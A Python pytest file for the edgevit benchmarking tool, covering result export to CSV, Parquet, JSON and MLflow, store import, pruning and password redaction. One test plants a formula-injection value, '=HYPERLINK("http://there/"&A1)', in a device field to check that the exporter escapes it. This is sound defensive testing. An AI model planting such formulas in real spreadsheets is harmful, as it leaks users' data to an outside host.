"""Results leave for other programs and come from other stores: every figure, each once, nothing shown that must not be."""

from __future__ import annotations

import csv
import dataclasses
import json
import sqlite3
import sys
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from device_agents.wire import Run
from edgevit import places
from edgevit.cli import run_cli
from edgevit.errors import MissingExtra
from edgevit.progress import Quiet
from edgevit.results import exports
from edgevit.results.mlflow_export import TAG, export_to_mlflow
from edgevit.results.retention import plan_pruning
from edgevit.results.stats import summarize_all
from edgevit.results.store import Batch, RunOutline, Store, open_store
from tests.support.judged import mixed, valid
from tests.support.runs import failed, measurement, run, sha
from tests.unit.test_store import choice


@pytest.fixture
def stored(home: Path) -> list[Run]:
    runs = [run(governor="performance"), run("pi5", governor="performance", measurements=(measurement(), failed()))]
    with open_store() as store:
        for one in runs:
            store.add_run(one)
    return runs


def samples_of(runs: list[Run]) -> list[int]:
    return [ns for r in runs for m in r.measurements for s in m.series for ns in s.samples_ns]


def test_csv_has_every_figure_and_an_empty_cell_for_what_is_absent(stored: list[Run], tmp_path: Path) -> None:
    assert run_cli(["results", "export", "-o", str(tmp_path / "r.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8", newline="")))
    summaries = summarize_all(stored)
    assert [r["artifact"] for r in rows] == [s.artifact for s in summaries] and len(rows) == 6
    assert list(rows[0]) == [name for name, _ in exports.FIGURES]
    assert float(rows[0]["p50_ms"]) == summaries[0].p50_ms and float(rows[0]["p50_low_ms"]) < summaries[0].p50_ms  # type: ignore[operator]
    assert (rows[-1]["p50_ms"], rows[-1]["valid"]) == ("", "False") and rows[-1]["failure"].startswith("golden-mismatch")


def test_csv_and_parquet_of_samples_have_each_of_them(stored: list[Run], tmp_path: Path) -> None:
    for name in ("s.csv", "s.parquet"):
        assert run_cli(["results", "export", "-o", str(tmp_path / name), "--samples"]) == 0
    rows = list(csv.DictReader((tmp_path / "s.csv").open(encoding="utf-8", newline="")))
    table = pyarrow.parquet.read_table(tmp_path / "s.parquet")
    assert [int(r["latency_ns"]) for r in rows] == samples_of(stored) == table.column("latency_ns").to_pylist()
    assert rows[301] == {
        "run_id": "b1-pi4", "target": "pi4", "bundle": stored[0].job.variants[0].bundle, "artifact": "fp32-onnx",
        "runtime": "onnxruntime", "provider": "CPUExecutionProvider", "threads": "4", "process": "1", "number": "1",
        "latency_ns": str(stored[0].measurements[0].series[1].samples_ns[1]),
    }  # fmt: skip


def test_parquet_has_types_and_nulls(stored: list[Run], tmp_path: Path) -> None:
    assert run_cli(["results", "export", "--batch", "b1", "-o", str(tmp_path / "r.parquet")]) == 0
    table = pyarrow.parquet.read_table(tmp_path / "r.parquet")
    assert str(table.schema.field("p50_ms").type) == "double" and str(table.schema.field("valid").type) == "bool"
    assert table.num_rows == 6 and table.column("p50_ms").null_count == 1 and table.column("energy_mj").null_count == 6


def test_bencher_gets_valid_figures_in_its_units_and_the_newest_of_a_name() -> None:
    older = run(batch="b0", started_at="2025-01-01T00:00:00Z", measurements=(measurement(p50_ms=70.0),))
    summaries = summarize_all([run(measurements=(measurement(), failed())), older], valid)
    document, gave_way = exports.bencher_document(summaries)
    (name,) = document
    assert name == "pi4/deit-tiny-fp32/fp32-onnx/onnxruntime/CPUExecutionProvider/4" and gave_way == 1
    latency = document[name]["latency"]
    assert latency["value"] == pytest.approx(50e6, rel=0.05)
    assert latency["lower_value"] < latency["value"] < latency["upper_value"]
    assert document[name]["file-size"] == {"value": 23_000_000.0} and "energy" not in document[name]


def test_json_is_the_runs_whole(stored: list[Run], tmp_path: Path) -> None:
    assert run_cli(["results", "export", "-o", str(tmp_path / "r.json")]) == 0
    document = json.loads((tmp_path / "r.json").read_text("utf-8"))
    assert document["schema"] == "edgevit.runs/1"
    found = [ns for r in document["runs"] for m in r["measurements"] for s in m["series"] for ns in s["samples_ns"]]
    assert found == samples_of(stored)


@pytest.mark.parametrize(
    ("argv", "told"),
    [
        (["-o", "r.txt"], "no format follows from 'r.txt'"),
        ([], "give a file or a format"),
        (["--format", "csv"], "the format csv needs a file"),
        (["--format", "mlflow", "-o", "x.csv"], "MLflow takes no --output"),
        (["-o", "r.json", "--samples"], "--samples is for csv and parquet"),
        (["-o", "r.csv", "--to", "http://127.0.0.1:5000"], "--to and --experiment are MLflow's"),
        (["-o", "r.csv", "--experiment", "vits"], "--to and --experiment are MLflow's"),
        (["-o", "r.csv", "--batch", "b9"], "no batch with a run named 'b9'; did you mean b1?"),
        (["-o", "nowhere/r.csv"], "is not there"),
    ],
)
def test_what_cannot_be_exported_is_said(
    stored: list[Run],
    argv: list[str],
    told: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    assert run_cli(["results", "export", *argv]) == 2
    assert told in capsys.readouterr().err
    assert not list(tmp_path.glob("r.*"))


def test_an_export_that_fails_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text("old")

    def rows() -> object:
        yield {"run_id": "a"}
        raise RuntimeError("cut off")

    with pytest.raises(RuntimeError):
        exports.write_csv(path, exports.SAMPLES, rows())  # type: ignore[arg-type]
    assert path.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["r.csv"]


def test_no_text_of_a_device_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    board = dataclasses.replace(run().facts, board_model='=HYPERLINK("http://there/"&A1)')
    summaries = summarize_all([dataclasses.replace(run(), facts=board)], valid)
    exports.write_csv(tmp_path / "r.csv", exports.FIGURES, exports.figure_rows(summaries))
    rows = list(csv.DictReader((tmp_path / "r.csv").open(newline="")))
    assert {row["board"] for row in rows} == {'\'=HYPERLINK("http://there/"&A1)'}
    assert float(rows[0]["p50_ms"]) == summaries[0].p50_ms


def test_mlflow_gets_each_measurement_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlflow.tracking import MlflowClient

    monkeypatch.setenv("MLFLOW_ALLOW_FILE_STORE", "true")
    uri = (tmp_path / "mlruns").as_uri()
    # Another bundle's artifact of the same name, as studies have them.
    namesake = measurement(bundle_name="pruned", variant=dataclasses.replace(measurement().variant, bundle=sha("pruned")))
    summaries = summarize_all([run(measurements=(namesake, measurement(), failed()))], valid)
    rows = list(exports.figure_rows(summaries))
    assert export_to_mlflow(summaries, rows, uri, "boards", Quiet()) == (3, 0)
    assert export_to_mlflow(summaries, rows, uri, "boards", Quiet()) == (0, 3)
    client = MlflowClient(tracking_uri=uri)
    experiment = client.get_experiment_by_name("boards")
    assert experiment is not None
    kept = client.search_runs([experiment.experiment_id])
    assert sorted(r.data.params["bundle_name"] for r in kept if r.data.params["artifact"] == "fp32-onnx") == [
        "deit-tiny-fp32",
        "pruned",
    ]
    found = {r.data.params["artifact"]: r for r in kept if r.data.params["bundle_name"] != "pruned"}
    good, bad = found["fp32-onnx"], found["int8-static-onnx"]
    assert good.data.metrics["p50_ms"] == summaries[1].p50_ms and good.data.metrics["valid"] == 1.0
    assert good.data.tags[TAG] == f"b1-pi4/{summaries[1].bundle}/fp32-onnx/onnxruntime/CPUExecutionProvider/4"
    assert "p50_ms" not in bad.data.metrics and bad.info.status == "FAILED"


def test_an_mlflow_that_does_not_answer_is_one_error_without_its_password(
    stored: list[Run], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    assert run_cli(["results", "export", "--format", "mlflow", "--to", "http://me:s3cret@127.0.0.1:9"]) == 1
    said = capsys.readouterr().err
    assert "MLflow at http://me:***@127.0.0.1:9 said:" in said and "s3cret" not in said and "Traceback" not in said


def test_without_mlflow_or_pyarrow_the_extra_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(sys.modules, "mlflow.exceptions", None)
    with pytest.raises(MissingExtra, match="extra 'mlflow'"):
        export_to_mlflow([], [], None, "x", Quiet())
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingExtra, match="pyarrow"):
        exports.write_parquet(tmp_path / "r.parquet", exports.FIGURES, [])


# ---- import ---------------------------------------------------------------------------------------------------------


def test_another_store_comes_over_once_and_is_not_changed(
    stored: list[Run], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.sqlite"
    changed = dataclasses.replace(stored[0], reason="the same id, another content")
    with Store(f"sqlite:///{other}") as store:
        store.add_batch(Batch("b7", "2025-03-01T00:00:00Z", "bench there"))
        for one in (changed, run("pi9", batch="b7")):
            store.add_run(one)
        store.add_choice(choice())
    before = other.read_bytes()
    assert run_cli(["results", "import", str(other), "--dry-run"]) == 0
    assert "1 runs would come over, 1 were here; 1 batches, 1 choices" in capsys.readouterr().out
    for again in range(2):
        assert run_cli(["results", "import", str(other), "--json"]) == 0
        said = json.loads(capsys.readouterr().out)
        assert (said["runs"], said["known"], said["choices"]) == ((0, 2, 0) if again else (1, 1, 1))
        assert said["differing"] == ["b1-pi4"], "and ours stays"
    assert other.read_bytes() == before
    with open_store() as store:
        assert store.runs("b1", target="pi4") == [stored[0]] and len(store.runs()) == 3
        assert store.latest_batch() == Batch("b7", "2025-03-01T00:00:00Z", "bench there", 1) and len(store.choices()) == 1


def test_what_is_no_store_is_not_imported(
    stored: list[Run], home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "empty.sqlite").write_bytes(b"")
    sqlite3.connect(tmp_path / "foreign.sqlite").execute("CREATE TABLE runs (x)").connection.commit()
    told = (("gone", 2, "no store to import at"), ("empty", 1, "nothing in the store"), ("foreign", 1, "did not make: runs"))
    for name, code, said in told:
        assert run_cli(["results", "import", str(tmp_path / f"{name}.sqlite")]) == code
        assert said in capsys.readouterr().err
    assert not (tmp_path / "gone.sqlite").exists()
    assert run_cli(["results", "import", str(home / "data" / "results.sqlite")]) == 2
    assert "this very store" in capsys.readouterr().err


# ---- retention ------------------------------------------------------------------------------------------------------


def outline(day: int, target: str = "pi4", names: tuple[str, ...] = ("deit",)) -> RunOutline:
    return RunOutline(f"r{day}-{target}", "b", target, f"2025-01-{day:02}T00:00:00Z", names)


def test_pruning_by_age_and_number_and_never_evidence() -> None:
    runs = [outline(day) for day in range(1, 7)] + [outline(1, "pi5"), outline(9, "pi5")]
    cut = datetime(2025, 1, 4, tzinfo=UTC)

    def gone(**limits: object) -> list[str]:
        given = {"before": None, "keep_last": None, **limits}
        return [r.run_id for r in plan_pruning(runs, {"r2-pi4"}, **given).removed]  # type: ignore[arg-type]

    assert gone(before=cut) == ["r1-pi4", "r1-pi5", "r3-pi4"], "r2 is what a choice rests on"
    assert gone(keep_last=2) == ["r1-pi4", "r3-pi4", "r4-pi4"]
    assert gone(before=cut, keep_last=4) == ["r1-pi4"], "old and surplus"
    assert gone(before=cut, keep_last=9) == []
    assert [r.run_id for r in plan_pruning(runs, {"r2-pi4"}, before=cut, keep_last=None).evidence] == ["r2-pi4"]
    both = [outline(1, names=("a", "b")), outline(2, names=("a",)), outline(3, names=("a",))]
    assert plan_pruning(both, (), before=None, keep_last=1).removed == (both[1],), "the newest of b stays"
    with pytest.raises(ValueError, match="neither"):
        plan_pruning(runs, (), before=None, keep_last=None)


@given(
    st.lists(st.tuples(st.integers(1, 28), st.sampled_from("ab"), st.sampled_from(["x", "y"])), max_size=20, unique=True),
    st.integers(0, 4),
)
def test_the_newest_of_each_stay(rows: list[tuple[int, str, str]], keep: int) -> None:
    runs = [RunOutline(f"{d}{t}{n}", "b", t, f"2025-01-{d:02}T00:00:00Z", (n,)) for d, t, n in rows]
    gone = set(plan_pruning(runs, (), before=None, keep_last=keep).removed)
    for target, name in {(r.target, r.bundle_names) for r in runs}:
        group = sorted((r for r in runs if (r.target, r.bundle_names) == (target, name)), key=lambda r: r.ended_at)
        assert [r for r in group if r not in gone] == (group[-keep:] if keep else [])


def test_prune_looks_first_asks_and_then_removes(stored: list[Run], capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(["results", "prune"]) == 2
    assert "say what may go" in capsys.readouterr().err
    assert run_cli(["results", "prune", "--older-than", "lately"]) == 2
    assert "--older-than: got 'lately'" in capsys.readouterr().err
    assert run_cli(["results", "prune", "--older-than", "30d", "--dry-run"]) == 0
    said = capsys.readouterr()
    assert "pi5" in said.out and "nothing was removed" in said.err
    assert run_cli(["results", "prune", "--older-than", "30d"]) == 2, "nobody can be asked"
    assert run_cli(["results", "prune", "--keep-last", "1", "--yes"]) == 0
    with open_store() as store:
        assert len(store.runs()) == 2
    assert run_cli(["results", "prune", "--older-than", "30d", "--yes", "--json"]) == 0
    capsys.readouterr()
    with open_store() as store:
        assert store.runs() == [] and store.batches() == []


# ---- which store ----------------------------------------------------------------------------------------------------


def test_the_store_is_named_on_the_command_line_for_that_command_alone(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("EDGEVIT_DB", str(tmp_path / "env.sqlite"))
    with Store(f"sqlite:///{tmp_path / 'named.sqlite'}") as store:
        store.add_run(run(batch="there"))
    named = str(tmp_path / "named.sqlite")
    for argv in (["--db", named, "results", "list"], ["results", f"--db={named}", "list"], ["results", "list", "--db", named]):
        assert run_cli([*argv, "--json"]) == 0
        assert [b["batch"] for b in json.loads(capsys.readouterr().out)["batches"]] == ["there"], argv
    assert run_cli(["results", "list", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["batches"] == [] and places.db_url().endswith("env.sqlite")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql+psycopg://me:pw@host:5432/db", "postgresql+psycopg://me:***@host:5432/db"),
        ("postgresql://me:p@w/d@host/db", "postgresql://me:***@host/db"),
        ("postgresql://me@host/db?password=pw&sslmode=require", "postgresql://me@host/db?password=***&sslmode=require"),
        ("postgresql://host/db?sslpassword=pw", "postgresql://host/db?sslpassword=***"),
        ("postgresql:me:pw@host/db", "postgresql:***@host/db"),
        ("postgresql://me@host/db", "postgresql://me@host/db"),
        ("sqlite:////home/a@b/results.sqlite", "sqlite:////home/a@b/results.sqlite"),
    ],
)
def test_a_url_is_shown_without_its_password(url: str, shown: str) -> None:
    assert places.shown_url(url) == shown


def test_the_doctor_and_errors_show_no_password(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("EDGEVIT_DB", "postgresql+psycopg://me:s3cret@127.0.0.1:9/edgevit")
    assert run_cli(["doctor", "--json"]) == 0
    assert run_cli(["results", "list"]) == 1
    said = capsys.readouterr()
    assert "s3cret" not in said.out + said.err and "me:***@127.0.0.1:9" in said.out and "Traceback" not in said.err


def test_a_long_list_is_cut_and_says_so(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with open_store() as store:
        for i in range(53):
            store.add_batch(Batch(f"b{i:02}", f"2025-01-01T00:00:{i:02}Z", "bench"))
    assert run_cli(["results", "list"]) == 0
    said = capsys.readouterr()
    assert "b52" in said.out and "b02" not in said.out and "3 older batches are not listed" in said.err
    assert run_cli(["results", "list", "--limit", "0"]) == 0
    assert "b00" in capsys.readouterr().out
    assert run_cli(["results", "list", "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["batches"]) == 53


def test_what_others_named_is_shown_as_they_wrote_it(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with open_store() as store:
        store.new_batch("bench m on pi-[a-c]* [/x] :key:")
    assert run_cli(["results", "list"]) == 0
    assert "bench m on pi-[a-c]* [/x] :key:" in capsys.readouterr().out


def test_every_figure_of_mixed_runs_can_be_exported(tmp_path: Path) -> None:
    rows = list(exports.figure_rows(summarize_all(mixed(), valid)))
    assert exports.write_csv(tmp_path / "a.csv", exports.FIGURES, rows) == len(rows) == 11
    assert exports.write_parquet(tmp_path / "a.parquet", exports.FIGURES, rows) == 11
